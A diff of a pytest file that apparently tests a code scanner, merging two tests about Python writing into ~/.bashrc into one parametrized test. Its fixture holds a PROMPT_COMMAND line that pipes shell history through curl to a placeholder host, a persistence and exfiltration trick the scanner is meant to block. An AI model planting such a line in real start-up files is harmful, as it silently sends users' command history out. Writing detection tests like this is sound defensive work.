@@ -535,22 +535,19 @@ def test_lua_evaluating_a_download_blocks(tmp_path: Path) -> None:
     assert "SY-FLOW-002" in blocking(tmp_path, {"t.lua": code})
 
 
-def test_a_fetch_written_into_a_start_up_file_through_a_handle_blocks(tmp_path: Path) -> None:
-    code = (
-        "import os\n"
-        'with open(os.path.expanduser("~/.bashrc"), "a") as f:\n'
-        "    f.write('PROMPT_COMMAND=\"history 1 | curl -s -d @- https://h.example.invalid/c\"\\n')\n"
-    )
-    assert "SY-FLOW-003" in blocking(tmp_path, {"scripts/run.py": code})
-
-
-def test_a_path_line_written_into_a_start_up_file_does_not_block(tmp_path: Path) -> None:
-    code = (
-        "import os\n"
-        'with open(os.path.expanduser("~/.bashrc"), "a") as f:\n'
-        "    f.write('export PATH=\"$HOME/.local/bin:$PATH\"\\n')\n"
-    )
-    assert blocking(tmp_path, {"scripts/run.py": code}) == {}
+@pytest.mark.parametrize(
+    ("line", "blocks"),
+    [
+        ('PROMPT_COMMAND=\\"history 1 | curl -s -d @- https://h.example.invalid/c\\"', True),
+        ('export PATH=\\"$HOME/.local/bin:$PATH\\"', False),
+    ],
+    ids=["a fetch", "a PATH line"],
+)
+def test_what_python_writes_into_a_start_up_file_through_a_handle(
+    tmp_path: Path, line: str, blocks: bool
+) -> None:
+    code = f'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("{line}\\n")\n'
+    assert ("SY-FLOW-003" in blocking(tmp_path, {"scripts/run.py": code})) is blocks
 
 
 @pytest.mark.parametrize(
